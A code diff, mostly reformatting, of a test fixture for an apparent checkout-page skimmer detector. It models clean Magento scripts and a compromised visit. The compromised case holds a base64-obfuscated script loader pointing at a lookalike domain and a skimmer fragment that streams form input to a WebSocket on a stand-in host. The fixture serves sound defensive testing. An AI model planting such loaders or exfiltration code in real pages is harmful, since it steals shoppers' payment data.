@@ -45,20 +45,41 @@ const seenAt = (url: string, status: number): Evidence => ({
   facts: { url, status },
 });
 
-export const REQUIRE_JS = external(`${STATIC}/requirejs/require.js`, '/** vim: et:ts=4:sw=4:sts=4\n * @license RequireJS 2.3.7 Copyright jQuery Foundation and other contributors.\n */\nvar requirejs,require,define;(function(global,setTimeout){');
-const REQUIRE_CONFIG = external(`${STATIC}/requirejs-config.js`, '(function(require){\n(function() {\nvar config = {\n    map: {\n        "*": {\n            "rowBuilder": "Magento_Theme/js/row-builder",');
-const MIXINS = external(`${STATIC}/mage/requirejs/mixins.js`, "define('mixins', [\n    'module'\n], function (module) {\n    'use strict';", { initiator: REQUIRE_JS.url! });
+export const REQUIRE_JS = external(
+  `${STATIC}/requirejs/require.js`,
+  '/** vim: et:ts=4:sw=4:sts=4\n * @license RequireJS 2.3.7 Copyright jQuery Foundation and other contributors.\n */\nvar requirejs,require,define;(function(global,setTimeout){',
+);
+const REQUIRE_CONFIG = external(
+  `${STATIC}/requirejs-config.js`,
+  '(function(require){\n(function() {\nvar config = {\n    map: {\n        "*": {\n            "rowBuilder": "Magento_Theme/js/row-builder",',
+);
+const MIXINS = external(`${STATIC}/mage/requirejs/mixins.js`, "define('mixins', [\n    'module'\n], function (module) {\n    'use strict';", {
+  initiator: REQUIRE_JS.url!,
+});
 // jQuery holds both fromCharCode and createElement("script"): a library file is not an encoded loader.
-const JQUERY = external(`${STATIC}/jquery.js`, 'jQuery v3.7.1 … String.fromCharCode(high + 0x10000) … script = document.createElement("script"); script.text = code;', { initiator: REQUIRE_JS.url! });
-const CHECKOUT_VIEW = external(`${STATIC}/Magento_Checkout/js/view/payment.js`, "define([\n    'jquery',\n    'underscore',\n    'uiComponent',\n    'ko',", { initiator: REQUIRE_JS.url! });
+const JQUERY = external(
+  `${STATIC}/jquery.js`,
+  'jQuery v3.7.1 … String.fromCharCode(high + 0x10000) … script = document.createElement("script"); script.text = code;',
+  { initiator: REQUIRE_JS.url! },
+);
+const CHECKOUT_VIEW = external(`${STATIC}/Magento_Checkout/js/view/payment.js`, "define([\n    'jquery',\n    'underscore',\n    'uiComponent',\n    'ko',", {
+  initiator: REQUIRE_JS.url!,
+});
 const PSP_BODY = '/*! psp-example checkout.js v3.12.0 */(function(){"use strict";var e=window.PspCheckout={};';
 export const PSP = external(PSP_SCRIPT, PSP_BODY, {
   sri: { present: true, integrity: `sha256-${sha256(PSP_BODY)}`, matched: true },
   initiator: CHECKOUT_VIEW.url!,
 });
 export const INLINE_BOOT = inline('inline', `require.config({"baseUrl":"${STATIC}"});`);
-const INLINE_CHECKOUT = inline('inline', 'window.checkoutConfig = {"formKey":"Qe2pL0g8xXGDuIKf","isCustomerLoggedIn":false,"payment":{"psp":{"publicKey":"pk_live_51H"}}};');
-const KNOCKOUT_BINDING = inline('dynamic', "with($context){with($data||{}){return{'text':function(){return getTitle() }}}}", `${STATIC}/knockoutjs/knockout.js`);
+const INLINE_CHECKOUT = inline(
+  'inline',
+  'window.checkoutConfig = {"formKey":"Qe2pL0g8xXGDuIKf","isCustomerLoggedIn":false,"payment":{"psp":{"publicKey":"pk_live_51H"}}};',
+);
+const KNOCKOUT_BINDING = inline(
+  'dynamic',
+  "with($context){with($data||{}){return{'text':function(){return getTitle() }}}}",
+  `${STATIC}/knockoutjs/knockout.js`,
+);
 
 export const CSP_ENFORCED =
   "default-src 'self'; script-src 'self' 'nonce-bWFnZW50b05vbmNlMQ==' https://js.psp-example.com; connect-src 'self' https://api.psp-example.com; frame-ancestors 'self'";
@@ -81,7 +102,11 @@ const checkout = (scripts: SeenScript[], connections: SeenConnection[], headers 
 
 const CLEAN_CHECKOUT_SCRIPTS = [REQUIRE_JS, REQUIRE_CONFIG, INLINE_BOOT, INLINE_CHECKOUT, MIXINS, JQUERY, CHECKOUT_VIEW, KNOCKOUT_BINDING, PSP];
 const CLEAN_CONNECTIONS = [
-  conn('xhr', 'https://shop.example.com/customer/section/load/?sections=cart%2Cdirectory-data&force_new_section_timestamp=false&_=1732953600123', `${STATIC}/jquery.js`),
+  conn(
+    'xhr',
+    'https://shop.example.com/customer/section/load/?sections=cart%2Cdirectory-data&force_new_section_timestamp=false&_=1732953600123',
+    `${STATIC}/jquery.js`,
+  ),
   conn('fetch', `${PSP_API}/v1/sessions`, PSP_SCRIPT),
   conn('form-action', 'https://shop.example.com/checkout/onepage/saveOrder/'),
 ];
@@ -101,9 +126,12 @@ export const cleanVisits = (): PaymentPageVisit[] => [cart, checkout(CLEAN_CHECK
 
 // The skimmer: an inline loader injected after load decodes its script URL and adds it; the
 // script then streams field values to a WebSocket and a beacon. Nothing of it is in the HTML.
-const LOADER_TEXT = "(function(){var s=document.createElement('script');s.src=atob('aHR0cHM6Ly9qcy5zdHJscGUuY29tL3YzL20uanM/aT03');document.head.appendChild(s)})();";
+const LOADER_TEXT =
+  "(function(){var s=document.createElement('script');s.src=atob('aHR0cHM6Ly9qcy5zdHJscGUuY29tL3YzL20uanM/aT03');document.head.appendChild(s)})();";
 export const LOADER = inline('dynamic', LOADER_TEXT, `${STATIC}/Magento_Checkout/js/view/payment.js`);
-export const SKIMMER = external(SKIMMER_SCRIPT, "var w=new WebSocket('wss://cdn-metrics.example.net/s');document.addEventListener('input',function(e){", { initiator: 'inline' });
+export const SKIMMER = external(SKIMMER_SCRIPT, "var w=new WebSocket('wss://cdn-metrics.example.net/s');document.addEventListener('input',function(e){", {
+  initiator: 'inline',
+});
 
 export const compromisedVisits = (): PaymentPageVisit[] => [
   cart,
@@ -114,10 +142,13 @@ export const compromisedVisits = (): PaymentPageVisit[] => [
 ];
 
 /** The checkout page with other headers or scripts, for edge cases. */
-export const checkoutWith = (scripts: SeenScript[], headers: Readonly<Record<string, string>> = CHECKOUT_HEADERS, connections = CLEAN_CONNECTIONS): PaymentPageVisit =>
-  checkout(scripts, connections, headers);
+export const checkoutWith = (
+  scripts: SeenScript[],
+  headers: Readonly<Record<string, string>> = CHECKOUT_HEADERS,
+  connections = CLEAN_CONNECTIONS,
+): PaymentPageVisit => checkout(scripts, connections, headers);
 
-export { external, inline, conn };
+export { conn, external, inline };
 
 /** The reviewed inventory of the clean store, as a team writes it. */
 export const CLEAN_INVENTORY = `scripts:
